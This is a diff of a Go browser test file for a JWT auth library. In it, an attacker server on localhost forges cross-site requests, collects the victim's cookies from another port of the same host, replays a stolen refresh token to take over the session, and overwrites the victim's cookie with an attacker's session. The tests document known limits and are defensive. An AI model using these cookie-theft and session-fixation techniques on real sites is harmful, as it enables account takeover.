@@ -9,9 +9,11 @@ package demo_test
 
 import (
 	"context"
+	"encoding/json"
 	"fmt"
 	"io"
 	"log/slog"
+	"maps"
 	"net/http"
 	"net/http/httptest"
 	"slices"
@@ -290,10 +292,13 @@ func TestBrowserFlow(t *testing.T) {
 	assert.Equal(t, "logged out", browsertest.Text(t, tab, "status"))
 }
 
-// attackPage is served by a second origin (another port of 127.0.0.1, the
-// same site: SameSite=Strict does not stop the browser sending the cookie,
-// so the CSRF check must). It tries every request a page can make without
-// CORS permission, then writes the outcomes into #out.
+// attackPage is served by the attacker's server, at an origin other than
+// the victim's. It tries every request a page can make to the victim's
+// server without CORS permission, then makes its own server the requests
+// the victim's cookies are scoped to (/refresh, /logout, /login): a
+// browser sends a host's cookies to every port of that host (RFC 6265
+// §8.5), so an attacker's server on the victim's host would receive them
+// there. It writes the outcomes into #out.
 const attackPage = `<!doctype html>
 <html><body>
 <iframe name="sink"></iframe>
@@ -321,75 +326,323 @@ async function attempt(name, fn) {
   f.submit();
   await loaded;
   out.push("form /logout: submitted");
+  // The attacker's own server, at the paths of the victim's cookies.
+  for (const p of ["/refresh", "/logout", "/login"]) {
+    out.push(await attempt("own " + p, () => fetch(p, {method: "POST", credentials: "include"})));
+  }
   document.getElementById("out").textContent = out.join("\n");
 })();
 </script>
 </body></html>`
 
-// TestBrowserCrossSite logs a victim in on the demo page, then opens a page
-// of another origin (127.0.0.1 on another port) in the same browser that
-// tries to refresh and log out with the victim's cookie: every attempt
-// that reaches the server is refused with 403 before anything is spent,
-// the preflighted one never reaches it, and the victim's session (cookie
-// unchanged) still refreshes afterwards.
-func TestBrowserCrossSite(t *testing.T) {
-	tab := browsertest.Start(t, 45*time.Second)
-	srv := newServer(t)
-	browsertest.ScreenshotOnFailure(t, tab, "victim")
-	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		w.Header().Set("Content-Type", "text/html; charset=utf-8")
-		fmt.Fprintf(w, attackPage, browsertest.JS(srv.URL))
-	}))
-	t.Cleanup(evil.Close)
-	require.NotEqual(t, srv.URL, evil.URL)
+// ownPage is attackPage without the forgeries: served by another port of
+// the victim's host, it only asks its own server for the paths of the
+// victim's cookies, as any page of that server may.
+const ownPage = `<!doctype html>
+<html><body><pre id="out"></pre>
+<script>
+(async () => {
+  const out = [];
+  for (const p of ["/refresh", "/logout", "/login"]) out.push(p + ": " + (await fetch(p, {method: "POST"})).status);
+  document.getElementById("out").textContent = out.join("\n");
+})();
+</script>
+</body></html>`
 
+// attacker is the attacker's web server: it serves page at / and answers
+// every other request with answer (default 204), recording the cookies
+// each request brought.
+type attacker struct {
+	URL string // http://host:port as the browser is sent to it
+	mu  sync.Mutex
+	got map[string]map[string]string // request path → cookie name → value
+}
+
+// newAttacker starts the attacker's server on 127.0.0.1 and returns it
+// with its URL at host (127.0.0.1, or a name Chromium resolves to it).
+func newAttacker(t *testing.T, host, page string, answer http.HandlerFunc) *attacker {
+	t.Helper()
+	a := &attacker{got: map[string]map[string]string{}}
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/" && r.Method == http.MethodGet {
+			w.Header().Set("Content-Type", "text/html; charset=utf-8")
+			_, _ = io.WriteString(w, page)
+			return
+		}
+		a.mu.Lock()
+		cs := a.got[r.URL.Path]
+		if cs == nil {
+			cs = map[string]string{}
+			a.got[r.URL.Path] = cs
+		}
+		for _, c := range r.Cookies() {
+			cs[c.Name] = c.Value
+		}
+		a.mu.Unlock()
+		if answer != nil {
+			answer(w, r)
+			return
+		}
+		w.WriteHeader(http.StatusNoContent)
+	}))
+	t.Cleanup(ts.Close)
+	a.URL = strings.Replace(ts.URL, "127.0.0.1", host, 1)
+	return a
+}
+
+// cookies returns the cookies the attacker's server received at path,
+// and whether a request for path reached it at all.
+func (a *attacker) cookies(path string) (map[string]string, bool) {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	cs, ok := a.got[path]
+	return maps.Clone(cs), ok
+}
+
+// openAttacker opens url in a new tab of the victim's browser and waits
+// until its page has written #out, which it returns.
+func openAttacker(t *testing.T, tab context.Context, url string) string {
+	t.Helper()
+	tb, cancel := chromedp.NewContext(tab)
+	t.Cleanup(cancel)
+	browsertest.ScreenshotOnFailure(t, tb, "attacker")
+	require.NoError(t, chromedp.Do(tb, chromedp.Navigate(url)))
+	browsertest.WaitFor(t, tb, "the attacker's page to finish", `document.getElementById("out").textContent !== ""`)
+	out := browsertest.Text(t, tb, "out")
+	t.Logf("the attacker's page saw:\n%s", out)
+	return out
+}
+
+// loginVictim opens the demo page of srv, registers and logs in user, and
+// returns its refresh cookie's value.
+func loginVictim(t *testing.T, tab context.Context, srv *server, user string) string {
+	t.Helper()
 	require.NoError(t, chromedp.Do(tab, chromedp.Navigate(srv.URL+"/demo/")))
 	browsertest.WaitFor(t, tab, "the page", browsertest.StatusIs("logged out"))
-	browsertest.RegisterAndLogin(t, tab, "victim", "correct horse battery")
-	cookie := browsertest.RefreshCookies(t, tab, srv.URL+"/refresh")[0].Value
-	_, mark := srv.rec.since(0)
+	browsertest.RegisterAndLogin(t, tab, user, "correct horse battery")
+	cs := browsertest.RefreshCookies(t, tab, srv.URL+"/refresh")
+	require.Len(t, cs, 1)
+	return cs[0].Value
+}
 
-	// The attacker's page, in another tab of the same browser.
-	attacker, cancel := chromedp.NewContext(tab)
-	defer cancel()
-	browsertest.ScreenshotOnFailure(t, attacker, "attacker")
-	require.NoError(t, chromedp.Do(attacker, chromedp.Navigate(evil.URL)))
-	browsertest.WaitFor(t, attacker, "the attack to finish", `document.getElementById("out").textContent !== ""`)
-	out := browsertest.Text(t, attacker, "out")
-	t.Logf("the attacker page saw:\n%s", out)
+// forge logs a victim in on srv's demo page, opens attackPage from the
+// attacker's server at host in another tab of the same browser, and
+// returns the attacker's server, what its page saw, the requests of the
+// forgeries that reached srv (/refresh and /logout), and the victim's
+// refresh cookie of before the attack.
+func forge(t *testing.T, tab context.Context, srv *server, host string) (*attacker, string, []hit, string) {
+	t.Helper()
+	evil := newAttacker(t, host, fmt.Sprintf(attackPage, browsertest.JS(srv.URL)), nil)
+	require.NotEqual(t, srv.URL, evil.URL)
+	cookie := loginVictim(t, tab, srv, "victim")
+	_, mark := srv.rec.since(0)
+	out := openAttacker(t, tab, evil.URL+"/")
 	assert.Contains(t, out, "cors with header /refresh: blocked", "the preflight is refused, so the request is never sent")
 	assert.Contains(t, out, "cors with header /logout: blocked")
-
 	// The form post's frame may load before the server's record is made.
 	srv.rec.wait(t, mark, 3, "/refresh")           // 2 no-cors fetches and a preflight
 	hits, _ := srv.rec.wait(t, mark, 4, "/logout") // the same, and the form post
+	hits = slices.DeleteFunc(hits, func(h hit) bool { return h.Path != "/refresh" && h.Path != "/logout" })
 	var reached []string
 	for _, h := range hits {
-		if h.Path != "/refresh" && h.Path != "/logout" {
-			continue
-		}
 		reached = append(reached, fmt.Sprintf("%s %s %d", h.Method, h.Path, h.Status))
 		assert.Equal(t, evil.URL, h.Origin, "only the attacker's requests reached the server")
-		if h.Method == http.MethodPost {
-			assert.Equal(t, http.StatusForbidden, h.Status, "%+v", h)
-			assert.False(t, h.CSRF, "no POST with the CSRF header got through: %+v", h)
-			assert.True(t, h.Cookie, "the browser did send the victim's cookie (same site): the CSRF check stopped it")
-		} else {
+		if h.Method != http.MethodPost {
 			assert.Equal(t, http.MethodOptions, h.Method)
 			assert.GreaterOrEqual(t, h.Status, 400, "no CORS preflight is granted: %+v", h)
 		}
 	}
-	t.Logf("requests of the attacker page that reached the server: %v", reached)
+	t.Logf("requests of the attacker's page that reached the server: %v", reached)
 	assert.Len(t, slices.DeleteFunc(slices.Clone(reached), func(s string) bool { return !strings.HasPrefix(s, "POST") }), 5,
-		"two no-cors fetches per endpoint and the form post reached the server, and were refused")
+		"two no-cors fetches per endpoint and the form post reached the server")
+	return evil, out, hits, cookie
+}
 
-	// Nothing was spent: the cookie is unchanged and still refreshes.
+// victimUnharmed checks that the victim's refresh cookie is still cookie
+// and still refreshes in the demo page.
+func victimUnharmed(t *testing.T, tab context.Context, srv *server, cookie string) {
+	t.Helper()
 	assert.Equal(t, cookie, browsertest.RefreshCookies(t, tab, srv.URL+"/refresh")[0].Value)
 	assert.Equal(t, cookie, browsertest.RefreshCookies(t, tab, srv.URL+"/logout")[0].Value)
 	browsertest.Click(t, tab, "refresh")
 	browsertest.WaitFor(t, tab, "the victim's refresh", browsertest.LogHas("refreshed"))
 	assert.Equal(t, "logged in as victim", browsertest.Text(t, tab, "status"))
 	assert.NotEqual(t, cookie, browsertest.RefreshCookies(t, tab, srv.URL+"/refresh")[0].Value, "the victim's refresh rotated the cookie")
+}
+
+// TestBrowserCrossSite logs a victim in on the demo page at 127.0.0.1,
+// then opens in the same browser a page of another site: localhost, which
+// Chromium resolves to the same loopback address but which is another
+// host, and so another site, to its cookies. The page's forged refreshes
+// and logouts reach the server without the victim's cookie (SameSite=
+// Strict) and are refused, the preflighted one never reaches it; the
+// attacker's own server, asked for /refresh, /logout and /login, receives
+// none of the victim's cookies (it would, on another port of 127.0.0.1:
+// see TestBrowserOtherPortStealsRefreshCookie); and the victim's session
+// (cookie unchanged) still refreshes afterwards.
+func TestBrowserCrossSite(t *testing.T) {
+	tab := browsertest.Start(t, 45*time.Second)
+	srv := newServer(t)
+	browsertest.ScreenshotOnFailure(t, tab, "victim")
+	evil, out, hits, cookie := forge(t, tab, srv, "localhost")
+
+	for _, h := range hits {
+		assert.Equal(t, "cross-site", h.FetchSite, "%+v", h)
+		assert.False(t, h.Cookie, "SameSite=Strict: the browser did not send the victim's cookie cross-site: %+v", h)
+		assert.False(t, h.CSRF, "no request with the CSRF header got through: %+v", h)
+		assert.True(t, h.Status >= 400 && h.Status < 500, "refused: %+v", h)
+	}
+	for _, p := range []string{"/refresh", "/logout", "/login"} {
+		assert.Contains(t, out, "own "+p+": 204", "the attacker's page reached its own server")
+		got, ok := evil.cookies(p)
+		require.True(t, ok, "a request for %s reached the attacker's server", p)
+		assert.Empty(t, got, "the attacker's server at %s received no cookie of the victim's", p)
+	}
+	victimUnharmed(t, tab, srv, cookie)
+}
+
+// TestBrowserSameSiteForgery is TestBrowserCrossSite with the attacker's
+// page on another origin of the same site, where SameSite does not stop
+// the browser sending the victim's cookie with the forgeries and the CSRF
+// check must: each is refused 403 before anything is spent. The origin is
+// another port of 127.0.0.1, standing in for a sibling subdomain (which
+// the test cannot make without DNS); unlike a sibling, that origin need not
+// forge anything: its own server receives the victim's cookies, as this
+// test checks and TestBrowserOtherPortStealsRefreshCookie exploits.
+func TestBrowserSameSiteForgery(t *testing.T) {
+	tab := browsertest.Start(t, 45*time.Second)
+	srv := newServer(t)
+	browsertest.ScreenshotOnFailure(t, tab, "victim")
+	evil, _, hits, cookie := forge(t, tab, srv, "127.0.0.1")
+
+	for _, h := range hits {
+		assert.Equal(t, "same-site", h.FetchSite, "%+v", h)
+		if h.Method == http.MethodPost {
+			assert.Equal(t, http.StatusForbidden, h.Status, "%+v", h)
+			assert.False(t, h.CSRF, "no POST with the CSRF header got through: %+v", h)
+			assert.True(t, h.Cookie, "the browser did send the victim's cookie (same site): the CSRF check stopped it")
+		}
+	}
+	// Known limit (SECURITY.md, guarantee 9): cookies do not separate ports.
+	got, _ := evil.cookies("/refresh")
+	assert.Equal(t, cookie, got[jwtauth.RefreshCookieName], "the other port's own server received the victim's refresh cookie")
+	victimUnharmed(t, tab, srv, cookie)
+}
+
+// TestBrowserOtherPortStealsRefreshCookie documents a known limit
+// (SECURITY.md, threat model and guarantee 9): a browser sends a host's
+// cookies to every port of that host (RFC 6265 §8.5), so a web server on
+// another port of the victim's host is inside the trust boundary. Its page
+// fetches /refresh, /logout and /login from its own server, which receives
+// the victim's HttpOnly refresh and device cookies, redeems the refresh
+// token with a JSON body at the victim's server (no cookie, so no CSRF
+// check) and holds the victim's session. The test asserts that the attack
+// succeeds today; binding cookie-mode tokens to a key the page holds
+// (DPoP, RFC 9449: the sender check of jwtauth's cookieMode) is the later
+// fix that will flip it.
+func TestBrowserOtherPortStealsRefreshCookie(t *testing.T) {
+	tab := browsertest.Start(t, 45*time.Second)
+	srv := newServer(t)
+	browsertest.ScreenshotOnFailure(t, tab, "victim")
+	evil := newAttacker(t, "127.0.0.1", ownPage, nil)
+	cookie := loginVictim(t, tab, srv, "victim")
+	out := openAttacker(t, tab, evil.URL+"/")
+	assert.Equal(t, "/refresh: 204\n/logout: 204\n/login: 204", out)
+
+	for _, p := range []string{"/refresh", "/logout"} {
+		got, _ := evil.cookies(p)
+		assert.Equal(t, cookie, got[jwtauth.RefreshCookieName], "the other port's server read the victim's HttpOnly refresh cookie at %s", p)
+	}
+	got, _ := evil.cookies("/login")
+	assert.NotEmpty(t, got[jwtauth.DeviceCookieName], "and the victim's device cookie at /login")
+
+	// What the attacker's server does with it: a JSON refresh, as any API
+	// client sends it.
+	req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, srv.URL+"/refresh",
+		strings.NewReader(`{"refresh_token":`+browsertest.JS(cookie)+`}`))
+	require.NoError(t, err)
+	req.Header.Set("Content-Type", "application/json")
+	res, err := http.DefaultClient.Do(req)
+	require.NoError(t, err)
+	var pair struct {
+		AccessToken string `json:"access_token"`
+	}
+	require.NoError(t, json.NewDecoder(res.Body).Decode(&pair))
+	res.Body.Close()
+	require.Equal(t, http.StatusOK, res.StatusCode)
+	var next string
+	for _, c := range res.Cookies() {
+		if c.Name == jwtauth.RefreshCookieName {
+			next = c.Value
+		}
+	}
+	assert.NotEmpty(t, next, "a new refresh token of the victim's family, in the answer's Set-Cookie")
+	assert.NotEqual(t, cookie, next)
+
+	req, err = http.NewRequestWithContext(t.Context(), http.MethodGet, srv.URL+"/protected", nil)
+	require.NoError(t, err)
+	req.Header.Set("Authorization", "Bearer "+pair.AccessToken)
+	res, err = http.DefaultClient.Do(req)
+	require.NoError(t, err)
+	body, err := io.ReadAll(res.Body)
+	res.Body.Close()
+	require.NoError(t, err)
+	assert.Equal(t, http.StatusOK, res.StatusCode, "%s", body)
+	assert.Contains(t, string(body), `"sub":"victim"`, "the attacker holds the victim's session")
+}
+
+// TestBrowserOtherPortOverwritesSession documents the same known limit the
+// other way round: a server on another port of the victim's host sets its
+// own jwtauth_refresh cookie, the attacker's session (mallory), with the
+// victim's cookie's name, host and paths, which replaces the victim's; the
+// victim's page then silently refreshes as mallory, and whatever the
+// victim does next is done in mallory's account. The test asserts that the
+// attack succeeds today; the DPoP binding that will flip
+// TestBrowserOtherPortStealsRefreshCookie flips it too (mallory's token is
+// bound to a key the victim's page does not hold).
+func TestBrowserOtherPortOverwritesSession(t *testing.T) {
+	tab := browsertest.Start(t, 45*time.Second)
+	srv := newServer(t)
+	browsertest.ScreenshotOnFailure(t, tab, "victim")
+
+	// Mallory's own session, from the victim's server, as any client gets it.
+	mallory := ""
+	for _, ep := range []string{"/register", "/login"} {
+		res, err := http.Post(srv.URL+ep, "application/json", strings.NewReader(`{"username":"mallory","password":"mallory's password"}`))
+		require.NoError(t, err)
+		res.Body.Close()
+		require.Less(t, res.StatusCode, 300, ep)
+		for _, c := range res.Cookies() {
+			if c.Name == jwtauth.RefreshCookieName {
+				mallory = c.Value
+			}
+		}
+	}
+	require.NotEmpty(t, mallory)
+
+	evil := newAttacker(t, "127.0.0.1", ownPage, func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/refresh" || r.URL.Path == "/logout" { // the victim's cookie's paths
+			http.SetCookie(w, &http.Cookie{Name: jwtauth.RefreshCookieName, Value: mallory, Path: r.URL.Path, MaxAge: 3600,
+				HttpOnly: true, SameSite: http.SameSiteStrictMode})
+		}
+		w.WriteHeader(http.StatusNoContent)
+	})
+	victim := loginVictim(t, tab, srv, "victim")
+	openAttacker(t, tab, evil.URL+"/")
+
+	for _, ep := range []string{"/refresh", "/logout"} {
+		cs := browsertest.RefreshCookies(t, tab, srv.URL+ep)
+		require.Len(t, cs, 1, "one refresh cookie for %s: the attacker's replaced the victim's", ep)
+		assert.Equal(t, mallory, cs[0].Value, "the cookie the victim's page sends to %s is mallory's", ep)
+		assert.NotEqual(t, victim, cs[0].Value)
+	}
+	_, mark := srv.rec.since(0)
+	browsertest.Click(t, tab, "refresh")
+	browsertest.WaitFor(t, tab, "the victim's page refreshed as mallory", browsertest.StatusIs("logged in as mallory"))
+	hits, _ := srv.rec.wait(t, mark, 1, "/refresh")
+	assert.Equal(t, []string{"POST 200"}, hitsOf(hits, "/refresh"), "the page's own refresh, CSRF check passed")
+	callProtected(t, tab, "the victim's call, in mallory's account")
+	assert.Contains(t, browsertest.Text(t, tab, "result"), `"sub": "mallory"`)
 }
 
 // TestBrowserTabsRefreshTogether: two tabs of the page that load at once
